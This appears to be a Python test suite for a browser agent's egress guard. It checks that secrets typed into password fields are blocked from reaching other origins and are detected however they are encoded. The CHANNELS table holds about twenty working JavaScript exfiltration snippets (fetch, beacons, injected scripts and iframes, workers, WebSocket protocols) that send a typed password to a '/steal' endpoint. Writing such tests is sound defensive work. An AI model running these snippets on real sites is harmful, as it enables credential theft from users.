"""What is not for everybody is found in what leaves, and only its name goes out of the device (M4, I12)."""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import replace
from urllib.parse import quote, quote_plus, urlencode

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from handrail.devices.browser.confidential import Confidential, encodings
from handrail.devices.browser.origins import origin_of
from handrail.devices.browser.redact import Redactor
from handrail.devices.fake import FixedSecrets
from handrail.guard.mint import mint
from handrail.records import ElementRef, Integrity, Label, Request, Secret, SecretRef, TypeText

from .conftest import SECRET, Driver, find

pytestmark = pytest.mark.anyio
PLACE = "http://127.0.0.1:1"


def strays(request: Request) -> bool:
    """The core of what the gate of a policy decides about confidential values."""
    return any(origin_of(request.url) not in item.readers for item in request.carries)


CHANNELS = {
    "a fetch": "fetch(away+'?q='+encodeURIComponent(v)).catch(()=>1)",
    "the address it comes from": "history.replaceState(0,'','?'+encodeURIComponent(v));const i=new Image();"
    "i.referrerPolicy='unsafe-url';i.src=away",
    "a beacon": "navigator.sendBeacon(away,v)",
    "json": "fetch(away,{method:'POST',body:JSON.stringify({a:[v]})}).catch(()=>1)",
    "a request that outlives its page": "fetch(away,{method:'POST',body:v,keepalive:true}).catch(()=>1)",
    "a picture, shifted": "new Image().src=away+'?'+encodeURIComponent(btoa('xy'+v+'z'))",
    "a script": "o.appendChild(document.createElement('script')).src=away+'/'+encodeURIComponent(v)",
    "a style": "o.innerHTML='<style>@import \"'+away+'?'+encodeURIComponent(v)+'\";</style>'",
    "a frame": "o.innerHTML='<iframe></iframe>';o.firstChild.src=away+'#'+v",
    "a form in a frame": "o.innerHTML='<iframe name=t></iframe>';s.value=v;s.form.target='t';s.form.submit()",
    "a navigation": "location=away+'?'+Array.from(v,c=>c.charCodeAt(0).toString(16)).join('')",
    "a popup": "open(away+'?'+encodeURIComponent(v))",
    "a worker": "new Worker(URL.createObjectURL(new Blob(['onmessage=e=>fetch(e.data)'])))"
    ".postMessage(away+'?'+btoa(v))",
    "a worker of a worker": "new Worker(URL.createObjectURL(new Blob(['onmessage=e=>new Worker(URL.createObjectURL("
    "new Blob([`onmessage=e=>fetch(e.data)`]))).postMessage(e.data)']))).postMessage(away+'?'+btoa(v))",
    "a service worker": "navigator.serviceWorker.register('/sw.js').then(()=>navigator.serviceWorker.ready)"
    ".then(r=>r.active.postMessage(away+'?'+encodeURIComponent(v)))",
    "the name of a header": "within(`fetch('/steal',{headers:{'x-${hex(v)}':'1'}})`)",
    "a method": "within(`fetch('/steal',{method:'X${hex(v)}'})`)",
    "a socket's protocol": "new WebSocket(away.replace('http','ws'),['p'+hex(v)])",
    "a socket's protocol, of a worker": "new Worker(URL.createObjectURL(new Blob(["
    "'onmessage=e=>new WebSocket(...e.data)']))).postMessage([away.replace('http','ws'),'p'+hex(v)])",
    "base64 with blanks": "new Image().src=away+'?'+btoa(v).replace(/(.{4})/g,'$1%20')",
    "a socket's address": "new WebSocket(away.replace('http','ws')+'?'+encodeURIComponent(v))",
}


@pytest.mark.parametrize("channel", CHANNELS)
async def test_a_secret_leaves_through_nothing(driver: Driver, channel: str) -> None:
    driver.site.pages["/sw.js"] = "onmessage=e=>fetch(e.data,{mode:'no-cors'})"
    driver.site.page("<script>onmessage=e=>eval(e.data)</script>", "/inner")
    away = driver.site.url("/steal", "localhost")
    look = await driver.open(
        f"<input id=f type=password aria-label=Code><form action='{away}' method=post><input type=hidden name=s id=s>"
        f"</form><div id=o></div><script>const away='{away}';"
        "const within=js=>{o.innerHTML='<iframe></iframe>';const f=o.firstChild;"
        "f.onload=()=>f.contentWindow.postMessage(js,'*');f.src=away.replace('steal','inner')};"
        "const hex=v=>Array.from(v,c=>c.charCodeAt(0).toString(16)).join('');"
        f"f.oninput=()=>{{const v=f.value;{CHANNELS[channel]}}}</script>",
        refuse=strays,
    )
    driver.site.asked.clear()
    await driver.act(look, TypeText(ElementRef(find(look, "Code").id), SecretRef("pw")))
    await driver.until(lambda: [request for request in driver.gate.asked if request.carries])
    after = await driver.look()
    assert [asked for asked in driver.site.asked if asked[2].startswith("/steal")] == []
    (carried,) = {item for request in driver.gate.asked for item in request.carries}
    assert (carried.name, carried.readers) == ("the secret 'pw'", frozenset({driver.site.origin()}))
    seen = driver.device.incidents()
    assert "refused" in [incident.code for incident in seen]
    assert not any(word in repr((seen, after)) for word in encodings(SECRET))


async def test_a_secret_goes_where_it_belongs_and_its_body_has_no_digest(driver: Driver) -> None:
    script = "fetch('/own',{method:'POST',body:new URLSearchParams({p:this.value})})"
    look = await driver.open(f'<input type=password aria-label=Code oninput="{script}">', refuse=strays)
    await driver.act(look, TypeText(ElementRef(find(look, "Code").id), SecretRef("pw")))
    await driver.until(lambda: any(asked[2] == "/own" for asked in driver.site.asked))
    (asked,) = [request for request in driver.gate.asked if request.url.endswith("/own")]
    assert (asked.body_sha256, [item.name for item in asked.carries]) == ("withheld", ["the secret 'pw'"])


async def test_what_a_password_field_holds_is_for_its_origin(driver: Driver) -> None:
    away = driver.site.url("/seen", "localhost")
    look = await driver.open(
        f"<input id=f type=password aria-label=Code value='prefilled-77'><button onclick=\"fetch('{away}?'+f.value)"
        '.catch(()=>1)">Go</button>',
        refuse=strays,
    )
    assert find(look, "Code").value == ""
    await driver.js(f"fetch('{away}?'+f.value).catch(()=>1);1")
    await driver.until(lambda: [request for request in driver.gate.asked if request.carries])
    typed = await driver.open("<input id=f type=password aria-label=Code>", refuse=strays)
    await driver.act(typed, TypeText(ElementRef(find(typed, "Code").id), "chosen-by-me-1"))
    await driver.js(f"fetch('{away}?'+btoa(f.value)).catch(()=>1);1")
    await driver.until(lambda: [request for request in driver.gate.asked if request.carries])
    assert [asked for asked in driver.site.asked if asked[2].startswith("/seen")] == []


@pytest.mark.parametrize(("text", "held"), [("what the letter said", True), ("a letter", False)])
async def test_a_restricted_text_is_for_where_it_was_typed(driver: Driver, text: str, held: bool) -> None:
    away = driver.site.url("/told", "localhost")
    look = await driver.open("<input id=f aria-label=Note>", refuse=strays)
    record = driver.record(look, TypeText(ElementRef(find(look, "Note").id), text))
    mail = Label(Integrity.CONTENT, frozenset({"content:https://mail.example"}), frozenset({"https://mail.example"}))
    record = replace(record, material=replace(record.material, labels=(("text", mail),)))
    ticket = mint(driver.key, record, by="guard", device=driver.device.id, epoch=driver.device.epoch)
    await driver.device.perform(record, ticket)
    await driver.js(f"fetch('{away}?'+encodeURIComponent(f.value)).catch(()=>1);1")
    await driver.until(lambda: [request for request in driver.gate.asked if "/told" in request.url])
    (asked,) = [request for request in driver.gate.asked if "/told" in request.url]
    readers = frozenset({"https://mail.example", driver.site.origin()})
    assert [item.readers for item in asked.carries] == ([readers] if held else [])
    assert text not in repr(asked.carries)


async def test_what_went_through_a_socket_can_only_be_told(driver: Driver) -> None:
    look = await driver.open("<input id=f type=password aria-label=Code>", refuse=strays)
    await driver.act(look, TypeText(ElementRef(find(look, "Code").id), SecretRef("pw")))
    egress = driver.device._egress
    egress._socket(driver.device.active, {"requestId": "1", "url": "wss://elsewhere.example/live"})
    egress._framed({"requestId": "1", "response": {"payloadData": json.dumps({"v": SECRET})}})
    (told,) = [item for item in driver.device.incidents() if item.request and item.request.kind == "websocket"]
    assert (told.code, SECRET in repr(told)) == ("refused", False)


async def test_what_is_too_long_to_be_searched_is_for_the_readers_of_everything(
    driver: Driver, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(driver.device._egress.confidential, "most_searched", 1_000_000)
    away = driver.site.url("/long", "localhost")
    await driver.open("<p>x", refuse=strays)
    driver.site.asked.clear()
    script = "fetch('{}',{{method:'POST',mode:'no-cors',body:'\\\\u0041'.repeat(500000)}}).then(()=>'left',()=>'held')"
    assert await driver.js(script.format(away)) == "held"
    assert await driver.js(script.format("/long")) == "left"
    assert [asked[1].split(":")[0] for asked in driver.site.asked if asked[2] == "/long"] == ["127.0.0.1"]
    asked = [request for request in driver.gate.asked if request.url.endswith("/long")]
    assert [(request.body_sha256, request.carries[0].name) for request in asked] == [
        ("unread", "perhaps the secret 'pw'")
    ] * 2
    assert SECRET not in repr(asked)


async def test_what_is_long_is_searched_and_goes_anywhere_if_nothing_is_in_it(driver: Driver) -> None:
    away = driver.site.url("/long", "localhost")
    await driver.open("<p>x", refuse=strays)
    driver.site.asked.clear()
    script = "fetch('{}',{{method:'POST',mode:'no-cors',body:'x'.repeat(2500000)+{}}}).then(()=>'left',()=>'held')"
    assert await driver.js(script.format(away, "''")) == "left"
    for written in (json.dumps(SECRET), f"btoa({json.dumps(SECRET)})", f"encodeURIComponent({json.dumps(SECRET)})"):
        assert await driver.js(script.format(away, written)) == "held"
    asked = [request for request in driver.gate.asked if request.url.endswith("/long")]
    assert [(request.body_sha256, [item.certain for item in request.carries]) for request in asked] == [
        ("withheld", []), *[("withheld", [True])] * 3,
    ]  # fmt: skip


async def test_what_is_short_does_not_wait_for_what_is_long(driver: Driver) -> None:
    away = driver.site.url("/long", "localhost")
    await driver.open("<p>x", refuse=strays)
    long = "'%2541%252B'.repeat(100000)"
    hidden = f"fetch('{away}',{{method:'POST',mode:'no-cors',body:{long}+'{SECRET.replace('/', '%2F')}'}})"
    assert await driver.js(f"{hidden}.catch(()=>1);fetch('/short').then(()=>'came')") == "came"
    await driver.until(lambda: [request for request in driver.gate.asked if request.carries])
    order = [request.url.rpartition("/")[2] for request in driver.gate.asked]
    assert order.index("short") < order.index("long")
    assert [item.code for item in driver.device.incidents()] == ["refused"]


def test_of_many_values_only_a_shorter_text_is_searched() -> None:
    held = Confidential()
    for number in range(200):
        held.hidden(PLACE, f"value number {number}")
    assert held.readable("x" * 100_000)
    assert not held.readable("x" * 1_000_000)
    assert held.searchable("x" * 1_000_000)
    assert not held.searchable("x" * 6_000_000)
    assert {item.readers for item in held.suspected()} == {frozenset({PLACE})}


WAYS: dict[str, Callable[[str], str]] = {
    "as it is": lambda value: value,
    "in the path": lambda value: quote(value, safe=""),
    "in a form": lambda value: urlencode({"a": "1", "b": value}),
    "in a form within a form": lambda value: urlencode({"u": "https://x.example/?" + urlencode({"q": value})}),
    "plus signs": quote_plus,
    "json": json.dumps,
    "json in json": lambda value: json.dumps({"a": json.dumps({"b": value})}),
    "json in an address": lambda value: quote(json.dumps([value])),
    "escaped by script": lambda value: "".join(f"%u{ord(c):04x}" for c in value),
    "base64": lambda value: base64.b64encode(value.encode()).decode(),
    "base64 for addresses": lambda value: base64.urlsafe_b64encode(value.encode()).decode().rstrip("="),
    "base64 behind one": lambda value: base64.b64encode(b"x" + value.encode() + b"yz").decode(),
    "base64 behind two": lambda value: quote(base64.b64encode(b"xx" + value.encode() + b"z").decode()),
    "hexadecimal": lambda value: value.encode().hex().upper(),
    "base64 with blanks": lambda value: "%20".join(base64.b64encode(b"x" + value.encode()).decode()),
    "base64 in lines": lambda value: json.dumps("\r\n\t".join(base64.b64encode(value.encode()).decode())),
    "hexadecimal with blanks": lambda value: value.encode().hex(" "),
    "letters with nothing between": lambda value: quote("\0".join(value)),
    "letters with blanks between": lambda value: quote_plus(" ".join(value)),
}
VALUES = st.text(st.characters(min_codepoint=33, max_codepoint=0x2FF, exclude_categories=["Cc", "Cs"]), min_size=8)


@pytest.mark.parametrize("way", WAYS)
@settings(max_examples=30)
@given(value=VALUES.map(lambda value: value[:24]))
def test_a_value_is_found_however_it_is_written(way: str, value: str) -> None:
    held = Confidential()
    held.learn(FixedSecrets({"s": Secret(frozenset({PLACE}), value)}))
    assert [item.name for item in held.carried((f"https://x.example/?a=b&c={WAYS[way](value)}&d=e",))] == [
        "the secret 's'"
    ]


@pytest.mark.parametrize("way", sorted(WAYS.keys() - {
    "in a form within a form", "json in json", "json in an address", "base64 with blanks", "base64 in lines",
    "letters with nothing between", "letters with blanks between",
}))  # fmt: skip
@settings(max_examples=20)
@example(value="0\xa0\xa0\xa0ÿ\xa0¾0")  # + and / in one base64
@given(value=VALUES.map(lambda value: value[:24]))
def test_a_long_text_is_searched_for_each_way_of_writing_by_itself(way: str, value: str) -> None:
    held = Confidential(most_read=10)
    held.learn(FixedSecrets({"s": Secret(frozenset({PLACE}), value)}))
    assert held.carried((f"{'x' * 10} {WAYS[way](value)} y",))
    assert not held.carried((f"{'x' * 10} {WAYS[way]('nothing of the kind')} y",))


@pytest.mark.parametrize("way", ["as it is", "in the path", "plus signs", "json", "base64", "base64 for addresses",
                                 "base64 behind one", "hexadecimal"])  # fmt: skip
@settings(max_examples=30)
@given(value=VALUES.map(lambda value: value[:24]))
def test_what_is_cut_out_of_texts_is_not_found_in_them_any_more(way: str, value: str) -> None:
    secrets = FixedSecrets({"s": Secret(frozenset({PLACE}), value)})
    redact, held = Redactor(), Confidential()
    redact.learn(secrets)
    held.learn(secrets)
    assert (
        held.carried(
            (redact(f"before {WAYS[way](value).lower() if way == 'hexadecimal' else WAYS[way](value)} after"),)
        )
        == ()
    )


@pytest.mark.parametrize(
    ("value", "text", "found"),
    [
        ("1234", "https://x.example/?t=91234567", False),
        ("1234", "https://x.example/?pin=1234&a=b", True),
        ("123", "https://x.example/?pin=123", False),
        ("S3cretValue", "https://s3cretvalue.evil.example/", True),
        ("hunter2!", "https://x.example/?q=hunter3!", False),
    ],
)
def test_chance_finds_no_secret(value: str, text: str, found: bool) -> None:
    held = Confidential()
    held.learn(FixedSecrets({"s": Secret(frozenset({PLACE}), value)}))
    assert bool(held.carried((text,))) is found


@pytest.mark.parametrize(
    ("value", "kept"),
    [("admin", False), ("password", False), ("Tr0ub4dor", True), ("s3cr3t", False), ("a secret!", True)],
)
def test_a_mere_word_in_a_password_field_holds_up_no_request(value: str, kept: bool) -> None:
    held = Confidential()
    held.hidden(PLACE, value)
    assert bool(held.carried((f"https://cdn.example/{quote(value)}/app.js",))) is kept


def test_one_value_at_two_places_is_for_both() -> None:
    held = Confidential()
    held.hidden(PLACE, "same-at-both-1")
    held.hidden("https://b.example", "same-at-both-1")
    (found,) = held.carried(("same-at-both-1",))
    assert found.readers == {PLACE, "https://b.example"}
    assert "same-at-both" not in repr(held) + repr(found)
